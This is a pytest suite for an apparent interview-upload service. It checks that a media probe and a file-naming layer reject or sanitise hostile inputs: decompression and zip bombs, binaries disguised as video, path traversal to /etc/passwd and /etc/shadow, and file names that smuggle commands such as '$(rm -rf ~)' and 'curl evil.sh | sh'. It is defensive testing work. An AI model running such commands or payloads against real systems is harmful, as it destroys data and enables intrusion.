"""Hostile and broken uploads: each rejected by the probe or the landing with a specific reason, while a
valid recording beside them still passes. Every file is a few KB made here with ffmpeg or bytes."""

# ruff: noqa: E501  (the corpus tables keep one case to a line)
from __future__ import annotations

import shutil
import struct
import subprocess
import wave
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from hirelake.landing import PREFIX, safe_media_name, submit_media
from hirelake.media_probe import MediaRejected, RejectReason, probe_media

FFMPEG = shutil.which("ffmpeg")
pytestmark = pytest.mark.skipif(
    FFMPEG is None or shutil.which("ffprobe") is None, reason="needs ffmpeg/ffprobe"
)
TONE = ["-f", "lavfi", "-i", "sine=frequency=440:sample_rate=8000"]


def _ffmpeg(output: Path, *args: str) -> Path:
    assert FFMPEG is not None
    command = [FFMPEG, "-nostdin", "-v", "error", "-y", *args, "-t", "1", "-shortest", str(output)]
    subprocess.run(command, check=True, timeout=60)
    return output


def _video(size: str, *codec: str) -> list[str]:
    return ["-f", "lavfi", "-i", f"testsrc=size={size}:rate=5", *TONE, *codec]


@pytest.fixture(scope="module")
def sources(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("hostile-media")
    h264 = ["-c:v", "libx264", "-preset", "ultrafast", "-c:a", "aac"]
    return {
        "valid": _ffmpeg(folder / "valid.mp4", *_video("64x48", *h264, "-movflags", "+faststart")),
        "moov_at_end": _ffmpeg(folder / "moov_at_end.mp4", *_video("64x48", *h264)),
        "raw_mov": _ffmpeg(
            folder / "raw.mov", *_video("16x16", "-c:v", "rawvideo", "-pix_fmt", "gray", "-c:a", "pcm_s16le")
        ),
        # A real decompression bomb: ~200 KB that decodes to 8192x8192 frames (200 MB of RGB each).
        "bomb": _ffmpeg(
            folder / "bomb.mp4",
            *["-f", "lavfi", "-i", "color=c=gray:size=8192x8192:rate=1", *TONE, *h264],
        ),
    }


# --- builders: each writes one hostile file into `folder` from the sources --------------------------
Builder = Callable[[Path, dict[str, Path]], Path]


def _patched(source: str, name: str, patch: Callable[[bytearray], None]) -> Builder:
    def build(folder: Path, sources: dict[str, Path]) -> Path:
        data = bytearray(sources[source].read_bytes())
        patch(data)
        path = folder / name
        path.write_bytes(bytes(data))
        return path

    return build


def _bytes(name: str, data: bytes) -> Builder:
    def build(folder: Path, _sources: dict[str, Path]) -> Path:
        path = folder / name
        path.write_bytes(data)
        return path

    return build


def _days_long(data: bytearray) -> None:
    # mvhd duration (version 0: after version/flags, creation, modification, timescale) set to 2^31-1
    # ticks of 1/1000 s: a header claiming ~24 days for a 1 s recording.
    at = data.find(b"mvhd")
    struct.pack_into(">I", data, at + 20, 0x7FFFFFFF)


def _huge_dimensions(data: bytearray) -> None:
    # the `raw ` sample entry's width and height (16 bits each) set to the most a MOV can declare
    at = data.find(b"raw ", data.find(b"stsd"))
    struct.pack_into(">HH", data, at + 28, 0xFFFF, 0xFFFF)


def _zeroed_index(data: bytearray) -> None:
    at = data.find(b"moov")
    data[at + 8 : at + 400] = bytes(392)


def _renamed_index(data: bytearray) -> None:
    at = data.find(b"moov")
    data[at + 4 : at + 8] = b"junk"


def _cut_in_half(data: bytearray) -> None:
    del data[len(data) // 2 :]


def _header_only_wav(folder: Path, _sources: dict[str, Path]) -> Path:
    path = folder / "header_only.wav"
    with wave.open(str(path), "wb") as writer:
        writer.setnchannels(1)
        writer.setsampwidth(2)
        writer.setframerate(16_000)
        writer.writeframes(b"")
    return path


def _zero_length_mp4(folder: Path, sources: dict[str, Path]) -> Path:
    assert FFMPEG is not None
    path = folder / "zero_length.mp4"
    command = [FFMPEG, "-nostdin", "-v", "error", "-y", "-i", str(sources["valid"]), "-t", "0", "-c", "copy"]
    subprocess.run([*command, str(path)], check=True, timeout=60)
    return path


def _zip_bomb(folder: Path, _sources: dict[str, Path]) -> Path:
    path = folder / "zip_bomb.mp4"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("interview.mp4", bytes(10_000_000))  # 10 MB of zeros in ~10 KB
    return path


def _copy(source: str, name: str) -> Builder:
    def build(folder: Path, sources: dict[str, Path]) -> Path:
        return Path(shutil.copyfile(sources[source], folder / name))

    return build


# (case, builder, expected reason, words the message must hold)
MEDIA_CORPUS: list[tuple[str, Builder, RejectReason, str]] = [
    ("zero bytes", _bytes("empty.mp4", b""), RejectReason.EMPTY, "0 bytes"),
    ("shell script named .mp4", _bytes("run.mp4", b"#!/bin/sh\nrm -rf ~\n"), RejectReason.NOT_MEDIA, "#!/bin/sh"),
    ("ELF binary named .mp4", _bytes("a.mp4", b"\x7fELF\x02\x01\x01" + bytes(64)), RejectReason.NOT_MEDIA, "ELF"),
    ("HTML error page named .webm", _bytes("a.webm", b"<html><body>502</body></html>"), RejectReason.NOT_MEDIA,
     "<html>"),
    ("zip bomb given as media", _zip_bomb, RejectReason.NOT_MEDIA, "PK"),
    ("ftyp box and garbage", _bytes("g.mp4", b"\x00\x00\x00\x18ftypisom" + bytes(range(256)) * 8),
     RejectReason.TRUNCATED, "moov atom not found"),
    ("MP4 cut in half (moov at end)", _patched("moov_at_end", "cut.mp4", _cut_in_half), RejectReason.TRUNCATED,
     "upload the complete file"),
    ("corrupt container: index zeroed", _patched("valid", "zeroed.mp4", _zeroed_index), RejectReason.UNREADABLE,
     "no readable stream"),
    ("corrupt container: index renamed", _patched("valid", "renamed.mp4", _renamed_index),
     RejectReason.UNREADABLE, "no readable stream"),
    ("header claiming 24 days", _patched("valid", "days.mp4", _days_long), RejectReason.TOO_LONG, "596 h"),
    ("65535x65535 declared", _patched("raw_mov", "huge.mov", _huge_dimensions), RejectReason.BAD_DIMENSIONS,
     "outside 2x2 to 7680x4320"),
    ("decompression bomb: 8192x8192 frames", _copy("bomb", "bomb.mp4"), RejectReason.BAD_DIMENSIONS, "8192x8192"),
    ("zero-length audio stream (WAV)", _header_only_wav, RejectReason.ZERO_LENGTH, "0 s"),
    ("zero-length streams (MP4 cut at 0 s)", _zero_length_mp4, RejectReason.ZERO_LENGTH, "0 s"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("builder", "reason", "words"), [c[1:] for c in MEDIA_CORPUS], ids=[c[0] for c in MEDIA_CORPUS]
)
def test_hostile_media_is_rejected_with_its_reason(
    sources: dict[str, Path], tmp_path: Path, builder: Builder, reason: RejectReason, words: str
) -> None:
    path = builder(tmp_path, sources)
    with pytest.raises(MediaRejected) as caught:
        probe_media(path)
    assert caught.value.reason is reason, str(caught.value)
    assert words in str(caught.value)


def test_the_valid_recording_beside_them_passes(sources: dict[str, Path]) -> None:
    probe = probe_media(sources["valid"])
    assert probe.container == "mp4" and probe.audio_streams and (probe.width, probe.height) == (64, 48)
    assert probe.duration_seconds == pytest.approx(1.0, abs=0.2)


# --- names and ids at the landing --------------------------------------------------------------------
# (case, uploaded file name, the name landing stores it under)
NAME_CORPUS = [
    ("path traversal", "../../etc/passwd.mp4", "passwd.mp4"),
    ("windows traversal", "..\\..\\Windows\\win.ini.mp4", "win.ini.mp4"),
    ("absolute path", "/etc/shadow", "shadow"),
    ("command substitution", "$(rm -rf ~).mp4", "_rm_-rf_.mp4"),
    ("backticks", "`reboot`.mp4", "_reboot_.mp4"),
    ("newline and semicolon", "a.mp4\n; curl evil.sh | sh", "a.mp4_curl_evil.sh_sh"),
    ("right-to-left override", "answer\u202e4pm.exe", "answer_4pm.exe"),
    ("fullwidth dots and solidus", "\uff0e\uff0e\uff0fsecret.mp4", "_secret.mp4"),
    ("NUL byte", "a\x00.mp4", "a_.mp4"),
    ("hidden file", ".bashrc", "bashrc"),
    ("only dots", "..", "media.bin"),
    ("very long", "a" * 5000 + ".mp4", "a" * 120),
]


@pytest.mark.parametrize(("name", "expected"), [c[1:] for c in NAME_CORPUS], ids=[c[0] for c in NAME_CORPUS])
def test_hostile_names_land_under_a_safe_name(name: str, expected: str) -> None:
    safe = safe_media_name(name)
    assert safe == expected
    assert "/" not in safe and "\\" not in safe and not safe.startswith(".")
    assert all(c.isascii() and (c.isalnum() or c in "._-") for c in safe)


class _Landing:
    """The two writes `submit_media` makes, kept in a dict."""

    def __init__(self) -> None:
        self.objects: dict[str, Any] = {}

    def put_file(self, key: str, path: Path) -> None:
        self.objects[key] = path.read_bytes()

    def put_json(self, key: str, document: Any) -> None:
        self.objects[key] = document


def test_a_hostile_name_stays_in_its_interview_folder(sources: dict[str, Path], tmp_path: Path) -> None:
    upload = tmp_path / "$(rm -rf ~)`id`.mp4"
    shutil.copyfile(sources["valid"], upload)
    lake = _Landing()
    submission = submit_media(
        lake,  # type: ignore[arg-type]
        interview_id="I-1",
        candidate_id="C-1",
        position_id="P-1",
        path=upload,
    )
    assert submission.media_key == f"{PREFIX}/I-1/_rm_-rf_id_.mp4"
    assert set(lake.objects) == {submission.media_key, f"{PREFIX}/I-1/submission.json"}


BAD_IDS = [
    ("traversal", "../../etc"),
    ("trailing newline", "I-1\n"),
    ("command substitution", "$(id)"),
    ("semicolon", "I-1;ls"),
    ("slash", "I/1"),
    ("unicode lookalike", "I\u20111"),
    ("empty", ""),
    ("too long", "I" * 129),
]


@pytest.mark.parametrize("interview_id", [c[1] for c in BAD_IDS], ids=[c[0] for c in BAD_IDS])
def test_hostile_interview_ids_are_refused(sources: dict[str, Path], interview_id: str) -> None:
    lake = _Landing()
    with pytest.raises(ValueError, match="must be letters, digits"):
        submit_media(
            lake,  # type: ignore[arg-type]
            interview_id=interview_id,
            candidate_id="C-1",
            position_id="P-1",
            path=sources["valid"],
        )
    assert lake.objects == {}


# The HRIS's candidate and position ids ride along into submission.json, silver rows, reports and deletion
# matching: the same hostile shapes are refused for them, with the id named, before anything is written.
BAD_HRIS_IDS = [
    *BAD_IDS,
    ("dot-dot traversal", ".."),
    ("leading dot", ".hidden"),
    ("a dot: the deletion matcher would split the id there", "C.1"),
    ("backslash traversal", "..\\..\\C-1"),
    ("backticks", "`reboot`"),
    ("pipe", "C-1|sh"),
    ("space", "C 1"),
    ("NUL byte", "C-1\x00"),
    ("fullwidth solidus", "C\uff0f1"),
    ("absurd length", "C" * 100_000),
]


@pytest.mark.parametrize("field", ["candidate_id", "position_id"])
@pytest.mark.parametrize("bad", [c[1] for c in BAD_HRIS_IDS], ids=[c[0] for c in BAD_HRIS_IDS])
def test_hostile_candidate_and_position_ids_are_refused(
    sources: dict[str, Path], field: str, bad: str
) -> None:
    lake = _Landing()
    ids = {"candidate_id": "C-1", "position_id": "P-1", field: bad}
    kind = field.removesuffix("_id")
    refusal = f"^{kind} id .* must be the HRIS's {kind} id: letters, digits"
    with pytest.raises(ValueError, match=refusal) as caught:
        submit_media(lake, interview_id="I-1", path=sources["valid"], **ids)  # type: ignore[arg-type]
    assert lake.objects == {}
    assert len(str(caught.value)) < 300  # an absurd id is named, not echoed whole


def test_hris_ids_as_the_hris_writes_them_are_accepted(sources: dict[str, Path]) -> None:
    lake = _Landing()
    submission = submit_media(
        lake,  # type: ignore[arg-type]
        interview_id="I-1",
        candidate_id="C000025",
        position_id="POS2026_ED-01",
        path=sources["valid"],
    )
    assert lake.objects[submission.record_key]["position_id"] == "POS2026_ED-01"
